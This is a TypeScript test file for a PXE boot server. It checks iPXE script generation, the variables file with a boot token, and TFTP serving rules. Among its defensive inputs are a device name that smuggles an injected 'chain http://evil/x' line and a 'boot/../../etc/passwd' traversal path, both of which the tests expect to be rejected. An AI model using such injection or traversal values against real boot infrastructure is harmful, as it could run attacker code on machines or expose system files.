/** The iPXE script, the variables file, and both over TFTP (bootFilesResolver). */
import { describe, expect, it } from 'vitest';
import { parseVariablesFile, PXE_VARS } from '../../src/client/identity.js';
import { BootSessions, type BootSession } from '../../src/pxe/boot-sessions.js';
import { bootFilesResolver } from '../../src/pxe/boot-files.js';
import { chainLoader, PROMPT_KEYS, renderIpxeScript, scriptText } from '../../src/pxe/ipxe-script.js';
import { PXE_DECISION_VARS, renderVariablesFile } from '../../src/pxe/variables-file.js';
import { composeResolvers, GeneratedFiles } from '../../src/tftp/files.js';
import { TftpAccessError } from '../../src/tftp/paths.js';
import type { PxeBootRequest } from '../../src/pxe/types.js';
import { bootImage, decide, deployment, device, pxeRequest, pxeSite, unknownObject, GUID_KNOWN, KNOWN_ID, MAC_KNOWN } from './helpers.js';

const BASE = 'http://10.77.0.2:8080';
const IPXE_IMAGE = [bootImage('PXP00B01', { imagePath: 'images/test/hello.ipxe' }), bootImage('PXP00B86', { architecture: 'x86', imagePath: 'images/x86/hello.ipxe' })];

function sessionFor(kind: 'required' | 'available' | 'abort', req: Partial<PxeBootRequest> & { code?: number } = {}, images = IPXE_IMAGE): BootSession {
  const snap = pxeSite({
    deployments: kind === 'abort' ? [] : [deployment('PXP20002', { purpose: kind }), deployment('PXP20003', { purpose: kind, ts: 'PXP00T86' })],
    bootImages: images,
  });
  const request = pxeRequest({ isIpxe: true, clientIp: '10.77.0.50', ...req });
  const decision = decide(snap, { isIpxe: true, clientIp: '10.77.0.50', ...req }, { whenNothingApplies: 'abort' });
  const sessions = new BootSessions();
  return sessions.put({
    mac: request.mac, smbiosGuid: request.smbiosGuid, clientIp: request.clientIp, request, decision,
    token: kind === 'abort' ? null : { token: 'pxpbt_SECRET', id: 'tok-1', expiresAt: '2026-11-26T13:00:00.000Z' },
    variablesName: kind === 'abort' ? null : 'N'.repeat(43) + '.json',
  });
}

describe('iPXE script', () => {
  it('required: identity comments, callback, variables, then boots the image over HTTP with no prompt (rule 67)', () => {
    const s = renderIpxeScript(sessionFor('required'), { baseUrl: BASE });
    expect(s.split('\n')[0]).toBe('#!ipxe');
    expect(s).toContain(`# pxepoint boot script for ${MAC_KNOWN}`);
    expect(s).toContain(`# device ${KNOWN_ID} (matched by mac+smbios-guid)`);
    expect(s).toContain('# decision boot (required)');
    expect(s).toContain(`imgfetch --name pxpcb ${BASE}/boot/callback/52-54-00-77-00-10?step=script && imgfree pxpcb`);
    expect(s).toContain(`imgfetch --name variables.json ${BASE}/boot/vars/${'N'.repeat(43)}.json || goto pxp_failed`);
    expect(s).toContain(`chain --autofree ${BASE}/boot/files/images/test/hello.ipxe`);
    expect(s).not.toContain('prompt --key');
    expect(s).not.toContain('pxpbt_SECRET'); // the token is in the variables file only
    // Order: callback before variables before boot.
    expect(s.indexOf('step=script')).toBeLessThan(s.indexOf('/boot/vars/'));
    expect(s.indexOf('/boot/vars/')).toBeLessThan(s.indexOf('chain '));
  });

  it.each([
    ['UEFI → Enter (0x0d)', 7, PROMPT_KEYS.Enter, 'Enter'],
    ['BIOS → F12 (iPXE KEY_F12 0x197e)', 0, PROMPT_KEYS.F12, 'F12'],
  ] as const)('rule 68, available: %s, falls through to the next device when no key', (_, code, key, name) => {
    const s = renderIpxeScript(sessionFor('available', { code, x64Capable: true }), { baseUrl: BASE, promptTimeoutSeconds: 5 });
    expect(s).toContain(`prompt --key 0x${key.toString(16)} --timeout 5000 Press ${name} for network service boot || goto pxp_no_key`);
    expect(s).toMatch(/:pxp_no_key\n.*\n.*step=prompt-timeout.*\nexit 0/);
    expect(s.indexOf('prompt --key')).toBeLessThan(s.indexOf('/boot/vars/'));
  });

  it('abort (rule 71): says why and exits, fetches nothing', () => {
    const s = renderIpxeScript(sessionFor('abort'), { baseUrl: BASE });
    expect(s).toContain('no boot action');
    expect(s).toContain('exit 0');
    expect(s).not.toMatch(/\/boot\/vars\/|chain /);
  });

  it('a WinPE .wim is not bootable by iPXE yet: prints a message and exits (the wimboot seam)', () => {
    const s = renderIpxeScript(sessionFor('required', {}, [bootImage('PXP00B01'), bootImage('PXP00B86', { architecture: 'x86' })]), { baseUrl: BASE });
    expect(s).toContain('cannot be booted by iPXE yet');
    expect(s).not.toContain('chain ');
    expect(s).toContain('/boot/vars/'); // the variables file is still fetched for a later loader
  });

  it('a loader plugs in (kernel + initrd lines)', () => {
    const wimboot = ({ url }: { url: string }) => ['kernel /boot/files/wimboot', `initrd ${url} boot.wim`, 'boot'];
    const s = renderIpxeScript(sessionFor('required', {}, [bootImage('PXP00B01'), bootImage('PXP00B86', { architecture: 'x86' })]), { baseUrl: BASE, loaders: [wimboot] });
    expect(s).toContain(`initrd ${BASE}/boot/files/images/PXP00B01/boot.wim boot.wim`);
  });

  it('chainLoader boots executables and scripts only', () => {
    expect(chainLoader({ path: 'a/b.efi', url: 'u', bootImageId: 'x' })).toEqual(['chain --autofree u']);
    expect(chainLoader({ path: 'a/boot.wim', url: 'u', bootImageId: 'x' })).toBeNull();
  });

  it('hostile device names cannot inject script lines', () => {
    const snap = pxeSite({
      devices: [device(KNOWN_ID, { name: 'PC\nchain http://evil/x ${x}', macs: [MAC_KNOWN], smbiosGuid: GUID_KNOWN }), unknownObject('x86'), unknownObject('x64')],
      deployments: [deployment('PXP20002', { purpose: 'required' })], bootImages: IPXE_IMAGE,
    });
    const request = pxeRequest({ isIpxe: true });
    const sessions = new BootSessions();
    const s = sessions.put({ mac: MAC_KNOWN, smbiosGuid: null, clientIp: null, request, decision: decide(snap, { isIpxe: true }), token: null, variablesName: null });
    const script = renderIpxeScript(s, { baseUrl: BASE });
    expect(script.split('\n').filter((l) => l.startsWith('chain '))).toEqual(['chain --autofree http://10.77.0.2:8080/boot/files/images/test/hello.ipxe']);
    expect(scriptText('a${b}"c\n')).toBe('a__b__c?');
  });
});

describe('variables file (docs/client.md format)', () => {
  it('is read by the reference client: site, identity, PXE media type, decision, token', () => {
    const text = renderVariablesFile(sessionFor('required'), { siteUrl: BASE });
    const vars = Object.fromEntries(parseVariablesFile(text).map((v) => [v.name, v.value]));
    expect(vars).toEqual({
      [PXE_VARS.siteUrl]: BASE,
      [PXE_VARS.mediaType]: 'PXE',
      [PXE_VARS.launchMode]: 'PXE',
      [PXE_VARS.clientMac]: MAC_KNOWN,
      [PXE_VARS.smbiosGuid]: GUID_KNOWN,
      [PXE_VARS.architecture]: 'x64',
      [PXE_DECISION_VARS.deploymentId]: 'PXP20003', // the highest required id (rule 78 ordering)
      [PXE_DECISION_VARS.mandatory]: '1',
      [PXE_DECISION_VARS.bootImageId]: 'PXP00B01',
      [PXE_VARS.bootToken]: 'pxpbt_SECRET',
    });
  });
  it('available → Mandatory 0; a PXE password is announced, never written', () => {
    const vars = Object.fromEntries(parseVariablesFile(renderVariablesFile(sessionFor('available'), { siteUrl: BASE, passwordSet: true })).map((v) => [v.name, v.value]));
    expect(vars[PXE_DECISION_VARS.mandatory]).toBe('0');
    expect(vars[PXE_DECISION_VARS.passwordRequired]).toBe('1');
  });
  it('an unknown machine has no GUID line when firmware sent none', () => {
    const vars = parseVariablesFile(renderVariablesFile(sessionFor('required', { smbiosGuid: null }), { siteUrl: BASE }));
    expect(vars.some((v) => v.name === PXE_VARS.smbiosGuid)).toBe(false);
  });
  it('does not set SMSTSPreferredAdvertID: an available choice stays the user\'s (rule 24)', () => {
    expect(renderVariablesFile(sessionFor('available'), { siteUrl: BASE })).not.toContain('SMSTSPreferredAdvertID');
  });
});

describe('over TFTP (bootFilesResolver)', () => {
  const setup = () => {
    const sessions = new BootSessions();
    const s = sessionFor('required');
    const stored = sessions.put({ mac: s.mac, smbiosGuid: s.smbiosGuid, clientIp: '10.77.0.50', request: s.request, decision: s.decision, token: s.token, variablesName: s.variablesName });
    const resolver = composeResolvers(bootFilesResolver(sessions, { baseUrl: BASE, script: {}, variables: {} }), new GeneratedFiles().set('other.txt', () => Buffer.from('x')));
    return { sessions, stored, resolver };
  };
  const read = async (src: Awaited<ReturnType<ReturnType<typeof setup>['resolver']['open']>>) => (src === null ? null : (await src.read(0, src.size)).toString('utf8'));
  const me = { address: '10.77.0.50', port: 2070 };

  it('serves the script and the variables file to the machine', async () => {
    const { resolver, stored } = setup();
    expect(await read(await resolver.open('boot/52-54-00-77-00-10.ipxe', me))).toMatch(/^#!ipxe/);
    expect(await read(await resolver.open(`/boot/vars/${stored.variablesName}`, me))).toContain('pxpbt_SECRET');
    expect(await read(await resolver.open(`\\boot\\vars\\${stored.variablesName}`, me))).toContain('pxpbt_SECRET');
  });
  it('refuses another address (TFTP error 2)', async () => {
    const { resolver, stored } = setup();
    await expect(resolver.open(`boot/vars/${stored.variablesName}`, { address: '10.77.0.66', port: 1 })).rejects.toBeInstanceOf(TftpAccessError);
    await expect(resolver.open('boot/52-54-00-77-00-10.ipxe', { address: '10.77.0.66', port: 1 })).rejects.toBeInstanceOf(TftpAccessError);
  });
  it('names are case-sensitive capabilities: a case-folded name is not found', async () => {
    const { resolver, stored } = setup();
    expect(await resolver.open(`boot/vars/${stored.variablesName!.toLowerCase()}`, me)).toBeNull();
  });
  it('falls through for other names, refuses traversal', async () => {
    const { resolver } = setup();
    expect(await read(await resolver.open('other.txt', me))).toBe('x');
    expect(await resolver.open('boot/x64/snponly.efi', me)).toBeNull();
    await expect(resolver.open('boot/../../etc/passwd', me)).rejects.toBeInstanceOf(TftpAccessError);
  });
});
